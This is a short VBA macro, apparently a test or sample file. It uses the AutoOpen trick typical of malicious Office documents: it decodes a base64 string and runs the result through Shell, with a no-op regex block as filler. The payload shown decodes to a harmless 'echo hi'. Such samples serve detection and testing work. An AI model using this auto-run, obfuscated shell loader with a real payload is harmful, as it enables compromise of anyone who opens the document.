Sub AutoOpen()
Set n = CreateObject("MSXML2.DOMDocument").createElement("b")
n.DataType = "bin.base64": n.Text = "ZWNobyBoaQ=="
Shell StrConv(n.nodeTypedValue, vbUnicode)
With CreateObject("VBScript.RegExp")
.Pattern = "[0-9]"
x = .Replace("a1", "")
End With
End Sub
